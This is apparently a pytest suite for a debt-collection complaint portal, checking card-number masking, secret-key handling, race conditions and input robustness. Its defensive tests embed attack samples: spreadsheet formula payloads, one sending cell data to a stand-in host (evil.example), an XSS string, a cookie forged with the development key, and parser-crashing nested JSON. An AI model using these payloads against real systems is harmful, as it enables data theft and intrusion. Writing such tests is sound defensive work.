"""Data protection and fault tolerance on every path (issue: every door, not only the narrative).

One test (or a few) per finding: card numbers in every contact-log column,
rejects, the secret key, tracking lock-outs, CSV formulas, a cardholder's
answer racing an officer's save, a poison timestamp, spacing inside card
numbers, numbers in logs and names, input no database stores, a masked value
at "Send", reflected HTML, 405 answers and the OpenAPI rules. Run on SQLite
and on PostgreSQL (DATABASE_URL).
"""
from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import sqlalchemy as sa

from portal import create_app
from portal.extensions import db
from portal.models import Attachment, Complaint, ComplaintEvent, ContactImport, ContactLog, Finding

from .intake_helpers import PDF, STEPS, fill_steps, submit
from .test_contacts_import import gen_row, write_csv, write_jsonl

ROOT = Path(__file__).resolve().parents[2]
CARD = "4111111111111111"
CARDS = (CARD, "5555555555554444", "378282246310005", "4222222222222")
RESIDENT_ID = "11010519491231002X"


def full_numbers(text: str) -> list[str]:
    """The planted card and ID numbers found in ``text``, whatever separates their digits."""
    compact = re.sub(r"[\s.\-\u00a0\u3000+]|%20", "", text)
    return [n for n in (*CARDS, RESIDENT_ID, RESIDENT_ID[:-1] + "x") if n in compact]


@pytest.fixture
def api_key(app) -> str:
    from portal.api_keys import create_api_key

    with app.app_context():
        new = create_api_key("bank-crm")
        db.session.commit()
        return new.secret


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def run_audit(runner, profile="us-cfpb"):
    result = runner.invoke(args=["audit", "run", "--profile", profile])
    assert result.exit_code == 0, result.output
    return result


# --- 1. card numbers in every contact-log column -----------------------------------------

MASKED_COLUMNS = ("account_ref", "agency", "agent_id", "contact_point", "external_id", "source", "notes")


def test_card_numbers_are_masked_in_every_contact_log_column_and_what_is_made_from_them(app, runner, client, auth, tmp_path):
    rows = []
    for n, column in enumerate(MASKED_COLUMNS * 6):  # 42 rows, six per column
        card = CARDS[n % len(CARDS)]
        value = {0: card, 1: f"{card[:4]} {card[4:8]} {card[8:12]} {card[12:]}"}.get(n % 3, f"x-{card}")
        row = gen_row(n, occurred_at="2026-03-02T06:15:00-05:00")  # before 08:00: a US-TIME finding each
        row[column] = value if column != "external_id" else f"{value}-{n}"
        rows.append(row)
    path = write_csv(tmp_path / "logs.csv", rows)
    result = runner.invoke(args=["contacts", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output.strip().splitlines()[-1])["rejected"] == 0
    with app.app_context():
        logs = db.session.scalars(sa.select(ContactLog)).all()
        assert len(logs) == 42
        for log in logs:
            for column in MASKED_COLUMNS:
                assert full_numbers(getattr(log, column) or "") == [], (column, getattr(log, column))
        assert sum("[card •••• " in (log.agent_id or "") for log in logs) == 6
    run_audit(runner)
    with app.app_context():
        findings = db.session.scalars(sa.select(Finding)).all()
        assert len(findings) >= 42
        for finding in findings:
            assert full_numbers(" ".join(str(v) for v in (finding.account_ref, finding.agency, finding.agent_id,
                                                          finding.related_external_ids))) == []
        log_ids = [log.id for log in db.session.scalars(sa.select(ContactLog))]
    exported = runner.invoke(args=["audit", "export", "--profile", "us-cfpb"]).output
    assert exported and full_numbers(exported) == []
    auth.login("auditor")
    assert full_numbers(client.get("/audit/findings.csv").get_data(as_text=True)) == []
    assert full_numbers(client.get("/audit/findings").get_data(as_text=True)) == []
    for log_id in log_ids:
        assert full_numbers(client.get(f"/audit/logs/{log_id}").get_data(as_text=True)) == []


# --- 2. rejects keep no raw number, and reasons never repeat a value --------------------------


def test_rejects_file_download_and_api_reasons_carry_no_number(app, runner, client, auth, api_key, tmp_path):
    rows = [gen_row(1), gen_row(2, channel=CARD), gen_row(3, consumer_tz=CARD, notes=CARD),
            gen_row(4, occurred_at=CARD), gen_row(5, duration_s=CARD), gen_row(6, disposition=CARD)]
    path = write_csv(tmp_path / "logs.csv", rows)
    assert runner.invoke(args=["contacts", "import", str(path)]).exit_code == 0
    rejects = (tmp_path / "logs.csv.rejects.csv").read_text(encoding="utf-8")
    assert len(list(csv.DictReader(io.StringIO(rejects)))) == 5
    assert full_numbers(rejects) == []
    for reject in csv.DictReader(io.StringIO(rejects)):
        field, _colon, problem = reject["reason"].partition(": ")
        assert field in ("channel", "consumer_tz", "occurred_at", "duration_s", "disposition") and problem
        assert "[card" not in reject["reason"]  # the reason names the field and the problem, not the value
    with app.app_context():
        import_id = db.session.scalar(sa.select(ContactImport.id))
    auth.login("auditor")
    with client.get(f"/audit/imports/{import_id}/rejects.csv") as download:
        assert download.status_code == 200 and full_numbers(download.get_data(as_text=True)) == []
    answer = client.post("/api/v1/contact-logs", headers=bearer(api_key),
                         json=[gen_row(10), gen_row(11, channel=CARD), gen_row(12, outcome=f"{CARD[:8]} {CARD[8:]}")])
    assert answer.status_code == 207
    assert full_numbers(answer.get_data(as_text=True)) == []
    assert [r["reason"].split(":")[0] for r in answer.json["rejects"]] == ["channel", "outcome"]


# --- 3. no public secret key outside debug and testing --------------------------------------


def test_the_app_refuses_to_start_without_a_secret_key(database_url, monkeypatch, tmp_path):
    monkeypatch.delenv("SECRET_KEY", raising=False)
    monkeypatch.delenv("FLASK_DEBUG", raising=False)
    instance = tmp_path / "instance"  # no config.py, no dev-secret-key (the checkout's may have one)
    instance.mkdir()
    for config in ({"SQLALCHEMY_DATABASE_URI": database_url},
                   {"SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": "dev-only-change-me"},
                   {"SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": ""}):
        with pytest.raises(RuntimeError, match="SECRET_KEY is not set") as refused:
            create_app(config, instance_path=str(instance))
        assert "export SECRET_KEY=" in str(refused.value) and "instance/dev-secret-key" in str(refused.value)
    # A key of its own starts it; so do debug and the tests, without one.
    assert create_app({"SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": "a-real-secret"},
                      instance_path=str(instance)).secret_key == "a-real-secret"
    assert create_app({"SQLALCHEMY_DATABASE_URI": database_url, "DEBUG": True}, instance_path=str(instance)).secret_key
    assert create_app({"SQLALCHEMY_DATABASE_URI": database_url, "TESTING": True}, instance_path=str(instance)).secret_key


def test_the_checkouts_key_file_is_used_when_the_environment_has_none(database_url, monkeypatch, tmp_path):
    monkeypatch.delenv("SECRET_KEY", raising=False)
    monkeypatch.delenv("FLASK_DEBUG", raising=False)
    instance = tmp_path / "instance"
    instance.mkdir()
    (instance / "dev-secret-key").write_text("9f3c0a5e-random-key-of-this-checkout\n")
    config = {"SQLALCHEMY_DATABASE_URI": database_url}
    assert create_app(config, instance_path=str(instance)).secret_key == "9f3c0a5e-random-key-of-this-checkout"
    # The environment wins over the file.
    monkeypatch.setenv("SECRET_KEY", "from-the-environment")
    assert create_app(config, instance_path=str(instance)).secret_key == "from-the-environment"
    monkeypatch.delenv("SECRET_KEY")
    # The public development key in the file, or an empty file, is still refused.
    for content in ("dev-only-change-me\n", "", "  \n"):
        (instance / "dev-secret-key").write_text(content)
        with pytest.raises(RuntimeError, match="SECRET_KEY is not set"):
            create_app(config, instance_path=str(instance))


def _without_secret_key(database_url: str) -> dict:
    env = {k: v for k, v in os.environ.items() if k not in ("SECRET_KEY", "FLASK_DEBUG", "FLASK_APP")}
    env["DATABASE_URL"] = database_url
    env["PYTHONPATH"] = str(ROOT)
    return env


def test_gunicorn_config_does_not_serve_without_a_secret_key(database_url, tmp_path):
    instance = tmp_path / "instance"
    instance.mkdir()
    started = subprocess.run([sys.executable, "-c", "import sys; from portal import create_app; "
                              "create_app(instance_path=sys.argv[1])", str(instance)], cwd=ROOT,
                             env=_without_secret_key(database_url), capture_output=True, text=True, timeout=120)
    assert started.returncode != 0
    assert "SECRET_KEY is not set" in started.stderr and "export SECRET_KEY=" in started.stderr


def test_flask_commands_run_on_the_checkouts_key_file_alone(app, database_url, tmp_path):
    """A script calling `flask --app portal users create` after `make run` sets no SECRET_KEY."""
    from portal.models import StaffUser

    flask = [str(Path(sys.executable).with_name("flask")), "--app"]
    instance = tmp_path / "instance"
    instance.mkdir()
    target = f"portal:create_app(instance_path={str(instance)!r})"
    command = [*flask, target, "users", "create", "script@redress.test", "--role", "officer", "--password-stdin"]
    env = _without_secret_key(database_url)
    refused = subprocess.run(command, cwd=ROOT, env=env, input="correct horse battery staple\n",
                             capture_output=True, text=True, timeout=120)
    assert refused.returncode != 0 and "SECRET_KEY is not set" in refused.stderr  # neither: refused
    (instance / "dev-secret-key").write_text("0d1e2f-random-key-of-this-checkout\n")
    created = subprocess.run(command, cwd=ROOT, env=env, input="correct horse battery staple\n",
                             capture_output=True, text=True, timeout=120)
    assert created.returncode == 0, created.stderr
    assert "created officer script@redress.test" in created.stdout
    with app.app_context():
        assert db.session.scalar(sa.select(StaffUser.role).where(StaffUser.email == "script@redress.test")) == "officer"


def test_a_cookie_signed_with_the_development_key_opens_nothing(app, client):
    """The tests' app runs on its own key: a tracking proof forged with the public key is ignored."""
    from flask.sessions import SecureCookieSessionInterface

    _response, reference, _code = submit(client)
    with app.app_context():
        complaint_id = db.session.scalar(sa.select(Complaint.id).where(Complaint.reference == reference))
    forger = create_app({"TESTING": True, "SECRET_KEY": "dev-only-change-me",
                         "SQLALCHEMY_DATABASE_URI": app.config["SQLALCHEMY_DATABASE_URI"]})
    serializer = SecureCookieSessionInterface().get_signing_serializer(forger)
    forged = serializer.dumps({"tracking": {"complaint": complaint_id, "reference": reference, "until": 9e9}})
    stranger = app.test_client()
    stranger.set_cookie("session", forged)
    page = stranger.get("/track").get_data(as_text=True)
    assert reference not in page and "access code" in page.lower()


# --- 5. formula cells neutralised in every column of every CSV ------------------------------

# (A leading tab or carriage return is trimmed on import; the CSV writer neutralises those too.)
FORMULAS = ("=HYPERLINK(\"http://evil.example/\"&A1)", "@SUM(1+1)", "+1+2", "-2+3", "\uff1dcmd")


def test_findings_csv_neutralises_formulas_in_every_column(app, runner, client, auth, tmp_path):
    rows = []
    for n, formula in enumerate(FORMULAS):
        rows.append(gen_row(n, occurred_at="2026-03-02T06:15:00-05:00", source=formula, external_id=formula + str(n),
                            agency=formula, agent_id=formula, account_ref=formula))
    path = write_jsonl(tmp_path / "formulas.jsonl", rows)
    assert runner.invoke(args=["contacts", "import", str(path)]).exit_code == 0
    run_audit(runner)
    auth.login("auditor")
    exported = list(csv.reader(io.StringIO(client.get("/audit/findings.csv").get_data(as_text=True))))
    header, body = exported[0], exported[1:]
    assert len(body) == len(FORMULAS)
    for line in body:
        for name, cell in zip(header, line):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
        record = dict(zip(header, line))
        for name in ("source", "external_id", "agency", "agent_id", "account_ref"):
            assert record[name].startswith("'"), (name, record[name])


def test_rejects_csv_neutralises_formulas(runner, tmp_path):
    path = tmp_path / "bad.csv"
    header = ",".join(gen_row(0))
    path.write_text(header + "\n" + '=HYPERLINK("http://evil.example"),x\n', encoding="utf-8")
    assert runner.invoke(args=["contacts", "import", str(path)]).exit_code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "bad.csv.rejects.csv").read_text(encoding="utf-8"))))
    assert rows[1][0] == "2" and rows[1][2].startswith("'=HYPERLINK")


# --- 6. a cardholder's answer racing an officer's save ---------------------------------------


def _officer_saves_meanwhile(app, reference: str, times: int, monkeypatch):
    """Commit an officer's change to the complaint (version + 1) from another
    connection while the cardholder's request is between its read and its write."""
    from portal.intake import routes

    original = routes.record_event
    remaining = {"saves": times}

    def racing(complaint, kind, **kwargs):
        if kind in ("cardholder_answered", "information_added", "feedback") and remaining["saves"]:
            remaining["saves"] -= 1
            with db.engine.begin() as other:
                other.execute(sa.text("UPDATE complaint SET version = version + 1, complexity = complexity "
                                      "WHERE reference = :r"), {"r": reference})
        return original(complaint, kind, **kwargs)

    monkeypatch.setattr(routes, "record_event", racing)


@pytest.mark.parametrize("races", [1, 3])
def test_an_answer_racing_an_officers_save_is_stored_once_with_its_file(app, client, auth, monkeypatch, races):
    from portal.cases import actions

    from .test_intake_tracking import officer_does

    auth.create("officer")
    _response, reference, code = submit(client)
    assert client.post("/track", data={"reference": reference, "access_code": code}).status_code == 302
    officer_does(app, reference, actions.request_information, "Which number called you?")
    _officer_saves_meanwhile(app, reference, races, monkeypatch)
    response = client.post("/track/answer", data={"answer": "It was 202-555-0147.",
                                                   "files": [(io.BytesIO(PDF), "letter.pdf")]},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    with app.app_context():
        complaint = db.session.scalar(sa.select(Complaint).where(Complaint.reference == reference))
        answers = [e for e in complaint.events if e.kind == "cardholder_answered"]
        assert len(answers) == 1 and answers[0].body == "It was 202-555-0147."
        assert complaint.status == "in_progress"
        attachments = db.session.scalars(sa.select(Attachment).where(Attachment.event_id == answers[0].id)).all()
        assert [a.original_name for a in attachments] == ["letter.pdf"]
        stored = {a.stored_name for a in db.session.scalars(sa.select(Attachment))}
    on_disk = {p.name for p in Path(app.config["UPLOAD_FOLDER"]).iterdir() if p.is_file()}
    assert on_disk == stored  # no orphaned file


def test_added_information_does_not_make_an_officers_open_form_stale(app, client, auth):
    from tests.integration._cases import case_form

    _response, reference, code = submit(client)
    cardholder = app.test_client()
    assert cardholder.post("/track", data={"reference": reference, "access_code": code}).status_code == 302
    officer = app.test_client()
    from tests.conftest import StaffAuth

    StaffAuth(app, officer).login("officer")
    fields = case_form(officer, reference, "acknowledge")  # the officer opens the case
    assert cardholder.post("/track/add", data={"body": "One more thing: they called at 6 am."}).status_code == 302
    saved = officer.post(f"/staff/complaints/{reference}/acknowledge", data=fields)
    assert saved.status_code == 303  # not 409: appending information changed nothing the officer saw
    with app.app_context():
        kinds = [e.kind for e in db.session.scalars(sa.select(ComplaintEvent).join(Complaint)
                                                    .where(Complaint.reference == reference))]
    assert "information_added" in kinds and "acknowledged" in kinds


def test_feedback_racing_an_officers_save_is_kept(app, client, auth, monkeypatch):
    from portal.cases import actions

    from .test_intake_tracking import officer_does

    auth.create("officer")
    _response, reference, code = submit(client)
    assert client.post("/track", data={"reference": reference, "access_code": code}).status_code == 302
    officer_does(app, reference, actions.respond, "We have told the agency to stop.", final=True)
    _officer_saves_meanwhile(app, reference, 1, monkeypatch)
    assert client.post("/track/feedback", data={"resolved": "yes", "comment": "Thanks"}).status_code == 302
    with app.app_context():
        complaint = db.session.scalar(sa.select(Complaint).where(Complaint.reference == reference))
        assert complaint.feedback_resolved is True and complaint.status == "closed"
        assert [e.kind for e in complaint.events].count("feedback") == 1


# --- 7. an unstorable value is a reject, never an aborted import --------------------------------

POISON = ("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "1066-10-14T09:00:00+00:00")


def test_a_poison_timestamp_is_a_reject_and_the_good_rows_are_stored(app, runner, client, api_key, tmp_path):
    rows = [gen_row(1), *[gen_row(10 + i, occurred_at=value) for i, value in enumerate(POISON)], gen_row(2),
            gen_row(3, notes="\ud800 lone")]
    path = tmp_path / "poison.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    result = runner.invoke(args=["contacts", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output.strip().splitlines()[-1]) == {"imported": 2, "duplicates": 0, "rejected": 4}
    rejects = list(csv.DictReader(io.StringIO((tmp_path / "poison.jsonl.rejects.csv").read_text(encoding="utf-8"))))
    assert [int(r["line"]) for r in rejects] == [2, 3, 4, 6]
    assert all(r["reason"].startswith("occurred_at: ") for r in rejects[:3])
    assert rejects[3]["reason"].startswith("notes: ")
    deep = "[" * 5000 + "]" * 5000
    path.write_text(json.dumps(gen_row(20)) + "\n" + deep + "\n", encoding="utf-8")
    result = runner.invoke(args=["contacts", "import", str(path)])
    assert json.loads(result.output.strip().splitlines()[-1]) == {"imported": 1, "duplicates": 0, "rejected": 1}
    answer = client.post("/api/v1/contact-logs", headers=bearer(api_key),
                         json=[gen_row(30), gen_row(31, occurred_at=POISON[0])])
    assert answer.status_code == 207
    assert answer.json["imported"] == 1 and answer.json["rejects"][0]["index"] == 1
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ContactLog)) == 4
    run_audit(runner)  # the stored rows audit without overflowing


# --- 8. any run of spaces, tabs, line breaks, dashes or dots between digit groups --------------

SPACED = ("4111  1111  1111  1111", "4111 - 1111 - 1111 - 1111", "4111\t1111\t1111\t1111", "4111\n1111\n1111\n1111",
          "4111.1111.1111.1111", "4111 -\n 1111 . 1111 \t1111")


def test_spaced_card_numbers_are_masked_in_narratives_events_and_notes(app, client, api_key, runner, tmp_path):
    narrative = "The collector read out my card number " + " and again ".join(SPACED) + " on the phone."
    filed = client.post("/api/v1/complaints", headers=bearer(api_key), json={"narrative": narrative})
    assert filed.status_code == 201 and filed.json["masked_items"] == len(SPACED)
    reference, code = filed.json["reference"], filed.json["access_code"]
    assert client.post("/track", data={"reference": reference, "access_code": code}).status_code == 302
    assert client.post("/track/add", data={"body": "Card: " + SPACED[3]}).status_code == 302
    path = write_jsonl(tmp_path / "spaced.jsonl", [gen_row(i, notes=f"card {value}") for i, value in enumerate(SPACED)])
    assert runner.invoke(args=["contacts", "import", str(path)]).exit_code == 0
    with app.app_context():
        complaint = db.session.scalar(sa.select(Complaint).where(Complaint.reference == reference))
        assert full_numbers(complaint.narrative) == [] and complaint.narrative.count("[card •••• 1111]") == len(SPACED)
        assert all(full_numbers(e.body or "") == [] for e in complaint.events)
        notes = db.session.scalars(sa.select(ContactLog.notes)).all()
        assert len(notes) == len(SPACED) and all(n == "card [card •••• 1111]" for n in notes)


# --- 9. numbers in logs, echoed searches and file names --------------------------------------


def test_search_strings_are_masked_in_the_page_and_every_log_line(app, client, auth, caplog):
    auth.login("officer")
    caplog.set_level(logging.DEBUG)
    spaced = f"{CARD[:4]}+{CARD[4:8]}+{CARD[8:12]}+{CARD[12:]}"
    for query in (CARD, spaced, "4111%201111%201111%201111"):
        page = client.get(f"/staff/queue?q={query}&status=all").get_data(as_text=True)
        assert full_numbers(page) == [] and "[card •••• 1111]" in page
        # What the development server and gunicorn write for this request.
        logging.getLogger("werkzeug").info('%s - - "%s" %s -', "127.0.0.1", f"GET /staff/queue?q={query} HTTP/1.1", 200)
    try:
        raise ValueError(f"a value {CARD} in an error")
    except ValueError:
        logging.getLogger("portal").exception("failed on %s", CARD)
    text = "\n".join(logging.Formatter().format(r) for r in caplog.records)
    assert "GET /staff/queue?q=" in text and "a value" in text
    assert full_numbers(text) == []


def test_uploaded_file_names_are_masked(app, client, auth, monkeypatch):
    app.config["CONTACT_JOBS_INLINE"] = True
    auth.login("auditor")
    data = ("\n".join([",".join(gen_row(0)), ",".join(gen_row(1).values())]) + "\n").encode()
    response = client.post("/audit/imports", data={"file": (io.BytesIO(data), f"card {CARD}.csv"), "source": CARD},
                           content_type="multipart/form-data")
    assert response.status_code == 303
    assert full_numbers(client.get(response.headers["Location"]).get_data(as_text=True)) == []
    with app.app_context():
        record = db.session.scalar(sa.select(ContactImport))
        assert record.filename == "card [card •••• 1111].csv" and full_numbers(record.source or "") == []
    auth.logout()
    cardholder = app.test_client()
    fill_steps(cardholder)
    cardholder.post("/complaint/evidence", data={"files": [(io.BytesIO(PDF), f"{CARD[:4]}  {CARD[4:8]}  {CARD[8:12]}  {CARD[12:]}.pdf")],
                                                   "action": "upload"}, content_type="multipart/form-data")
    sent = cardholder.post("/complaint/review")  # filed: on to the confirmation page
    assert sent.status_code == 303 and sent.headers["Location"].endswith("/track/confirmation")
    with app.app_context():
        assert [a.original_name for a in db.session.scalars(sa.select(Attachment))] == ["[card •••• 1111].pdf"]


# --- 10. bad bytes and out-of-range numbers: 400 or 404, never 500 ------------------------------

HUGE = str(2**63)


def test_nul_bytes_and_huge_numbers_are_refused_not_500(app, client, auth, api_key):
    assert client.post("/staff/login", data={"email": "a\x00@example.com", "password": "x\x00"}).status_code == 400
    assert client.post("/track", data={"reference": "RD-\x00", "access_code": "x"}).status_code == 400
    assert client.post("/complaint/what", data={"narrative": "They called me nine times\x00 a day at work."}).status_code == 400
    auth.login("supervisor")
    reference = submit(app.test_client())[1]
    for url, allowed in [
        ("/staff/queue?q=a%00b", (400,)), ("/staff/queue?agency=%00", (400,)), ("/audit/findings?agency=a%00", (400,)),
        (f"/staff/complaints/{reference}%00", (404,)), ("/staff/complaints/RD%00X/attachments/1", (404,)),
        (f"/staff/complaints/{reference}/attachments/{HUGE}", (404,)), (f"/audit/findings/{HUGE}", (404,)),
        (f"/audit/logs/{HUGE}", (404,)), (f"/audit/imports/{HUGE}", (404,)),
        (f"/staff/queue?assignee={HUGE}", (200,)), (f"/staff/queue?after=0.-.{HUGE}", (302,)),
        (f"/staff/queue?after={HUGE}.{HUGE}.{HUGE}", (302,)), (f"/audit/findings?page={HUGE}", (200,)),
        (f"/audit/findings?page=-{HUGE}", (200,)),
    ]:
        assert client.get(url).status_code in allowed, url
    auth.logout()
    auth.login("admin")
    assert client.get(f"/admin/activity?before={HUGE}").status_code == 200
    assert client.get(f"/admin/staff/{HUGE}").status_code == 404
    auth.logout()
    api = bearer(api_key)
    narrative = "The collector phoned my employer three times and told my manager about my debt."
    for body in ({"narrative": narrative + "\u0000"}, {"narrative": narrative, "name": "Jane\ud800"},
                 {"narrative": narrative, "contact_numbers": ["555 0100\u0000"]},
                 {"narrative": narrative, "amount_demanded": 2**64, "currency": "USD"}):
        answer = client.post("/api/v1/complaints", headers={**api, "Content-Type": "application/json"},
                             data=json.dumps(body))
        assert answer.status_code == 422, (body, answer.get_data(as_text=True))
    # A body sent with a form's content type (curl -d) is still read as JSON.
    answer = client.post("/api/v1/complaints", headers={**api, "Content-Type": "application/x-www-form-urlencoded"},
                         data=json.dumps({"narrative": narrative + "\u0000"}))
    assert answer.status_code == 422 and answer.json["errors"][0]["field"] == "narrative"
    deep = "[" * 100_000 + "]" * 100_000
    for path in ("/api/v1/contact-logs", "/api/v1/complaints"):
        answer = client.post(path, headers={**api, "Content-Type": "application/json"}, data=deep)
        assert answer.status_code == 400 and answer.json["status"] == 400
    answer = client.post("/api/v1/contact-logs", headers={**api, "Content-Type": "application/json"},
                         data=json.dumps([gen_row(1, notes="a\u0000b"), gen_row(2, agency="x\ud800"),
                                          gen_row(3, duration_s=2**64), gen_row(4)]))
    assert answer.status_code == 207 and answer.json["imported"] == 1
    assert [r["index"] for r in answer.json["rejects"]] == [0, 1, 2]
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Complaint)) == 1


def test_the_input_checks_leave_the_contact_log_upload_its_own_size_limit(app, client, auth):
    app.config["CONTACT_JOBS_INLINE"] = True
    app.config["MAX_CONTENT_LENGTH"] = 2_000  # the pages' limit; the upload page sets its own
    auth.login("auditor")
    data = ("\n".join([",".join(gen_row(0)), *(",".join(gen_row(n).values()) for n in range(60))]) + "\n").encode()
    assert len(data) > 2_000
    upload = client.post("/audit/imports", data={"file": (io.BytesIO(data), "big.csv"), "source": ""},
                         content_type="multipart/form-data")
    assert upload.status_code == 303
    refused = client.post("/audit/imports", data={"file": (io.BytesIO(data), "big.csv"), "source": "a\x00b"},
                          content_type="multipart/form-data")
    assert refused.status_code == 400
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ContactImport)) == 1


def test_names_of_api_keys_and_staff_are_masked(app):
    from portal.api_keys import create_api_key
    from portal.staff_accounts import create_staff

    with app.app_context():
        key = create_api_key(f"crm {CARD[:4]} {CARD[4:8]} {CARD[8:12]} {CARD[12:]}")
        staff = create_staff("officer.x@redress.test", "officer", "correct horse battery staple", display_name=CARD)
        db.session.commit()
        assert key.api_key.name == "crm [card •••• 1111]" and staff.display_name == "[card •••• 1111]"


# --- 12. a masked value never blocks "Send" without a field error -------------------------------


@pytest.mark.parametrize("field,value", [
    ("phone", "4111 1111 1111 1111"),
    ("email", "4111111111111111@example.com"),
    ("name", "J" * 186 + " 4222222222222"),  # 200 characters; 203 once the 13-digit card is masked
])
def test_a_value_invalid_once_masked_gets_its_field_error_on_the_step(app, client, field, value):
    details = {**STEPS["details"], field: value, "action": "continue"}
    fill_steps(client, {"details": {}})
    response = client.post("/complaint/details", data=details)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "We removed what looked like a card or ID number" in page and "[card" not in page
    assert full_numbers(page) == []
    # The corrected answer goes through and the complaint is filed.
    assert client.post("/complaint/details", data={**details, field: STEPS["details"].get(field, "Jane Doe")}).status_code == 302
    sent = client.post("/complaint/review")  # filed: on to the confirmation page
    assert sent.status_code == 303 and sent.headers["Location"].endswith("/track/confirmation")
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Complaint)) == 1


# --- 13. no reflected HTML on /complaint/who ---------------------------------------------------


def test_the_contact_number_error_escapes_what_was_typed(client):
    response = client.post("/complaint/who", data={**STEPS["who"], "contact_numbers": '<img src=x onerror=alert(1)>',
                                                   "action": "continue"})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "<img src=x" not in page
    assert "“&lt;img src=x onerror=alert(1)&gt;” does not look like a phone number" in page


# --- 405 with Allow, and the OpenAPI document states the rules -----------------------------------


def test_405_answers_say_which_methods_are_allowed(client):
    page = client.get("/track/leave")
    assert page.status_code == 405 and set(page.headers["Allow"].replace(" ", "").split(",")) >= {"POST"}
    api = client.get("/api/v1/complaints")
    assert api.status_code == 405 and "POST" in api.headers["Allow"] and api.json["status"] == 405


def test_openapi_states_the_rules_the_server_enforces(client):
    from jsonschema import Draft202012Validator

    document = client.get("/api/v1/openapi.json").json
    complaint = Draft202012Validator(document["components"]["schemas"]["ComplaintInput"])
    narrative = "The collector phoned my employer three times and told my manager about my debt."
    assert complaint.is_valid({"narrative": narrative, "amount_demanded": "10.00", "currency": "USD"})
    refused_by_server = [
        {"narrative": narrative, "amount_demanded": "10.00"},  # an amount needs a currency
        {"narrative": narrative, "amount_believed_owed": 5},
        {"narrative": narrative, "amount_demanded": "1000000000000.00", "currency": "USD"},
        {"narrative": narrative, "amount_demanded": 1e13, "currency": "USD"},
        {"narrative": narrative, "channels": ["phone"] * 21},
        {"narrative": narrative, "account_ref": "123456789012"},
        {"narrative": narrative, "phone": "call me"},
        {"narrative": narrative, "contact_numbers": ["  "]},
    ]
    for body in refused_by_server:
        assert not complaint.is_valid(body), body
    logs = document["paths"]["/contact-logs"]["post"]["requestBody"]["content"]["application/json"]["schema"]
    assert logs["minItems"] == 1 and logs["maxItems"] == 10_000
    row = document["components"]["schemas"]["ContactLogRow"]["properties"]
    assert row["duration_s"]["maximum"] == 2_147_483_647
    assert "1900" in row["occurred_at"]["description"]
    assert "Allow" in document["paths"]["/complaints"]["post"]["responses"]["405"]["headers"]
